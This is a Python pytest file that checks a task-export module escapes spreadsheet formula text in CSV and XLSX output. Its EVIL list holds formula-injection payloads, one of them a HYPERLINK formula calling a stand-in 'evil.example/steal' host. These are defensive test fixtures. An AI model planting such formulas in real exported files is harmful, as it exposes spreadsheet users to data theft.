"""Issue 11, defect 13: text that a spreadsheet would run as a formula is written as text."""

import csv

import pytest
from openpyxl import load_workbook

from luoshi.export import TaskRow, write_csv, write_xlsx
from luoshi.export.cells import safe_cell

EVIL = ['=HYPERLINK("http://evil.example/steal")', "=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+2"]


def _row(text: str) -> TaskRow:
    return TaskRow(seq=1, section=text, task=text, indicators="", deadline="", strength="", lead=text, support="",
                   status="", progress="")


@pytest.mark.parametrize("value", EVIL)
def test_safe_cell_quotes_formula_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["推进改革", "5%", "2022年", "", "a=b"])
def test_safe_cell_keeps_plain_text_and_numbers(value):
    assert safe_cell(value) == value
    assert safe_cell(-3.5) == -3.5


def test_xlsx_has_no_formula_cells(tmp_path):
    path = tmp_path / "t.xlsx"
    write_xlsx([_row(v) for v in EVIL], path, title="=1+1")
    ws = load_workbook(path).active
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def test_csv_cells_do_not_start_with_a_trigger(tmp_path):
    path = tmp_path / "t.csv"
    write_csv([_row(v) for v in EVIL], path)
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))[1:]
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "＝")), value
